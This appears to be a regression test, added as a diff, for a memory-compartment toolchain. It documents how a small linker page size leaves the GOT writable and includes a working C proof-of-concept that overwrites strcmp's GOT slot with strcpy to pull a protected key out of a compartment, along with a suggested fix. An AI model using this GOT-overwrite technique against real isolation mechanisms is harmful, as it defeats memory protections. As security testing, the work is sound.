@@ -1,0 +1,111 @@
+// Review 28, attacker model A (one key-0 store). ld.so makes only whole
+// pages of PT_GNU_RELRO read-only: it rounds the segment's end down to a
+// page (glibc's _dl_protect_relro), so a RELRO that does not end on a page
+// boundary keeps its last partial page writable. lld pads RELRO only to
+// the common page size, so bulkhead-clang -fuse-ld=lld
+// -Wl,-z,common-page-size=64 links a program whose last RELRO page, here
+// holding its .got and .got.plt (and DW.ref.__gxx_personality_v0 in C++:
+// driver/attacks-rev28-relro-tail.test), stays writable after start-up.
+// Everything that decides "read-only" from the program headers believes
+// the words are protected: runtime/plt.c (bh_object_read_only) leaves the
+// program's PLT jumps reading its own GOT words, and the driver's
+// personality check (tools/unwinder-check.c) passes the link. The driver
+// adds -z relro -z now after the user's flags, which does not help.
+//
+// Here the program finds the JUMP_SLOT word of strcmp in its own
+// relocations (addresses from the binary) and stores strcpy's address
+// there; the vault's strcmp(guess, key) then runs strcpy(guess, key) with
+// the vault's rights and copies the key into the key-0 buffer (ATTACK
+// SUCCEEDED). The control is the same program linked without the option:
+// the store faults.
+//
+// Seen in the guest: ATTACK SUCCEEDED with -z common-page-size=64; the
+// control dies of SIGSEGV at the store.
+//
+// Suggested fix: treat RELRO as read-only only up to its end rounded down
+// to a page, as ld.so does (bh_object_read_only, the driver's check, and
+// wherever else PT_GNU_RELRO is read: supervisor-relro.c looks at the
+// mappings and already refuses); and the driver refuses
+// -z common-page-size / max-page-size below 4096 in its links (or checks
+// the output's PT_GNU_RELRO end is page-aligned), so the program's GOT is
+// really read-only.
+// XFAIL: *
+// REQUIRES: pku
+// RUN: rm -rf %t && mkdir %t
+// RUN: %bulkhead_clang -fpkey-compartments -O2 -fno-builtin %s -fuse-ld=lld -o %t/control
+// RUN: not %run %t/control 2>&1 | FileCheck %s --check-prefix=CONTROL
+// RUN: %bulkhead_clang -fpkey-compartments -O2 -fno-builtin %s -fuse-ld=lld -Wl,-z,common-page-size=64 -o %t/prog
+// RUN: %run %t/prog > %t/out 2>&1 || true
+// RUN: FileCheck %s < %t/out
+// CONTROL: strcmp's GOT word found: 1
+// CONTROL-NOT: ATTACK SUCCEEDED
+// CONTROL: bulkhead: SIGSEGV (invalid permissions) at address 0x{{[0-9a-f]+}} in the default domain
+// CHECK: strcmp's GOT word found: 1
+// CHECK-NOT: ATTACK SUCCEEDED
+#define _GNU_SOURCE
+#include <bulkhead.h>
+#include <elf.h>
+#include <link.h>
+#include <stdio.h>
+#include <string.h>
+
+BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";
+
+BULKHEAD_ENTRY(vault) int vault_check(char *guess) {
+  return strcmp(guess, vault_key) == 0;
+}
+
+/* The program's JUMP_SLOT (or GLOB_DAT) word for NAME. */
+static void **slot;
+static int find_slot(struct dl_phdr_info *info, size_t size, void *arg) {
+  (void)size;
+  if (info->dlpi_name[0])
+    return 0; /* the program comes first, with no name */
+  const ElfW(Dyn) *d = NULL;
+  for (int i = 0; i < info->dlpi_phnum; i++)
+    if (info->dlpi_phdr[i].p_type == PT_DYNAMIC)
+      d = (const ElfW(Dyn) *)(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);
+  const ElfW(Rela) *rel[2] = {0, 0};
+  size_t n[2] = {0, 0};
+  const ElfW(Sym) *sym = NULL;
+  const char *str = NULL;
+  for (; d && d->d_tag != DT_NULL; d++) {
+    uintptr_t v = d->d_un.d_ptr;
+    if (d->d_tag == DT_JMPREL)
+      rel[0] = (const ElfW(Rela) *)v;
+    if (d->d_tag == DT_PLTRELSZ)
+      n[0] = d->d_un.d_val / sizeof(ElfW(Rela));
+    if (d->d_tag == DT_RELA)
+      rel[1] = (const ElfW(Rela) *)v;
+    if (d->d_tag == DT_RELASZ)
+      n[1] = d->d_un.d_val / sizeof(ElfW(Rela));
+    if (d->d_tag == DT_SYMTAB)
+      sym = (const ElfW(Sym) *)v;
+    if (d->d_tag == DT_STRTAB)
+      str = (const char *)v;
+  }
+  for (int t = 0; t < 2 && sym && str; t++)
+    for (size_t i = 0; rel[t] && i < n[t]; i++) {
+      size_t s = ELF64_R_SYM(rel[t][i].r_info);
+      if (s && !strcmp(str + sym[s].st_name, (const char *)arg))
+        slot = (void **)(info->dlpi_addr + rel[t][i].r_offset);
+    }
+  return 1;
+}
+
+int main(void) {
+  static char guess[32] = "a guess";
+  dl_iterate_phdr(find_slot, "strcmp");
+  printf("strcmp's GOT word found: %d\n", slot != NULL);
+  fflush(stdout);
+  if (!slot)
+    return 1;
+  *slot = (void *)strcpy; /* the one store */
+  vault_check(guess);
+  if (strstr(guess, "TOP-SECRET"))
+    printf("ATTACK SUCCEEDED: the vault's key in the program's memory: %s\n",
+           guess);
+  else
+    printf("attack failed: %s\n", guess);
+  return 0;
+}
